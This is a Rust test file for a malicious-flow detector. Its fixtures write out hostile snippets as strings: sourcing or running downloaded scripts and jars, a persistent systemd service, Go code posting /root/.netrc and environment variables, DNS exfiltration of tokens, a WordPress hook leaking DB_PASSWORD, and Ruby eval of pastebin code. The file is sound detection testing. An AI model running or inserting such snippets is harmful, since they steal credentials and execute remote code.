//! What is fetched for the next time, and secrets that nobody has a use for together.

use super::reached::{has, has_not};
use super::*;
use crate::model::Severity;

/// Whether a rule is met in a way that has no honest reading.
fn is_certain(language: Language, code: &str, rule: &str) -> bool {
    let outcome = outcome(language, code);
    flows::judge(&outcome, false).iter().any(|f| f.rule.id == rule && f.certain)
}

#[test]
fn what_is_fetched_behind_its_use_runs_the_next_time() {
    let code = "f=\"${HOME}/.cache/tool/init.sh\"\n[ -f \"$f\" ] && . \"$f\"\ncurl -fsSL https://h.invalid/init.sh -o \"$f\" &\n";
    has(Language::Shell, code, "flow-download-run");
    has_not(Language::Shell, &code.replace("-o \"$f\"", "-o \"${HOME}/.cache/tool/list.txt\""), "flow-download-run");
}

#[test]
fn what_is_fetched_for_a_machine_of_its_own_is_started() {
    let code =
        "f=$(mktemp -d)/a.jar; curl -fsSL -o $f https://h.invalid/a.jar && nohup java -Xmx1g -jar $f >/dev/null 2>&1 &";
    has(Language::Shell, code, "flow-download-run");
    has_not(Language::Shell, &code.replace("-jar $f", "-jar own.jar"), "flow-download-run");
}

#[test]
fn a_service_for_what_was_fetched_is_not_plain() {
    let code = "curl -sf https://h.invalid/agentd -o /usr/lib/agentd\nchmod +x /usr/lib/agentd\n\
                printf '[Service]\\nExecStart=/usr/lib/agentd\\n' > /etc/systemd/system/agentd.service\n";
    let of = |code: &str| {
        let outcome = outcome(Language::Shell, code);
        let flows = flows::judge(&outcome, false);
        flows.iter().find(|f| f.rule.id == "flow-persists").map(|f| f.severity.unwrap_or(Severity::High))
    };
    assert_eq!(of(code), Some(Severity::High));
    let table = "echo '5 4 * * * agent /usr/sbin/agentd renew --quiet' > /etc/cron.d/agentd\n";
    assert_eq!(of(table), Some(Severity::Medium));
    assert_eq!(of(&table.replace("/usr/sbin/agentd renew", "/tmp/agentd renew")), Some(Severity::High));
}

#[test]
fn nobody_needs_the_environment_and_the_keys_in_files_together() {
    let go = |body: &str| {
        format!(
            "package main\nimport (\n\"bytes\"\n\"net/http\"\n\"os\"\n)\nfunc main() {{\nvar b bytes.Buffer\nd, _ := os.ReadFile(\"/root/.netrc\")\nb.Write(d)\n{body}\nhttp.Post(\"https://sum.invalid/\", \"text/plain\", &b)\n}}\n"
        )
    };
    let all = "for _, e := range os.Environ() { b.WriteString(e) }";
    assert!(is_certain(Language::Go, &go(all), "flow-credentials-sent"));
    assert!(!is_certain(Language::Go, &go(""), "flow-credentials-sent"));
}

#[test]
fn secrets_in_the_name_of_a_domain_have_no_honest_reading() {
    let code = "s=$(printenv | grep TOKEN | gzip -c | xxd -p)\nnslookup \"1.$s.stats.invalid\" >/dev/null 2>&1\n";
    assert!(is_certain(Language::Shell, code, "flow-dns-exfiltration"));
    assert!(!is_certain(Language::Shell, &code.replace("printenv | grep TOKEN", "hostname"), "flow-dns-exfiltration"));
}

#[test]
fn what_a_site_enters_its_database_with_is_a_secret() {
    let code = "<?php\nadd_action('init', function () {\n  wp_remote_post('https://h.invalid/a', ['body' => ['d' => base64_encode(home_url() . DB_PASSWORD)]]);\n});\n";
    has(Language::Php, code, "flow-credentials-sent");
    has_not(Language::Php, &code.replace("DB_PASSWORD", "DB_CHARSET"), "flow-credentials-sent");
}

#[test]
fn a_library_takes_no_code_out_of_a_paste() {
    let code = "require 'net/http'\nThread.new { eval(Net::HTTP.get(URI('https://pastebin.com/raw/AAAA'))) }\n";
    assert!(is_certain(Language::Ruby, code, "flow-remote-code"));
    assert!(!is_certain(Language::Ruby, &code.replace("pastebin.com/raw", "code.invalid"), "flow-remote-code"));
}
